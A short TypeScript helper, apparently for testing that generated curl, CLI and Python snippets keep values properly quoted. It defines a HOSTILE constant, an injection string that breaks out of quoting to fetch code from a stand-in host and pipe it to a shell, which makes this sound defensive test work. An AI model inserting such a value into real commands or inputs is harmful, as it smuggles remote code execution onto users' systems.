import type { Call } from '@/domain/calls'

/** What must not leave its place in a command or a program. */
export const HOSTILE = 'x"; curl evil|sh #'

/** What a shell would take for its own words, and Python for its own code. */
export function loose({ curl, cli, python }: Call): string {
  const words = `${curl}\n${cli ?? ''}`.replaceAll(/'[^']*'/g, '')
  return words + python.replaceAll(/"(?:[^"\\]|\\.)*"/g, '')
}
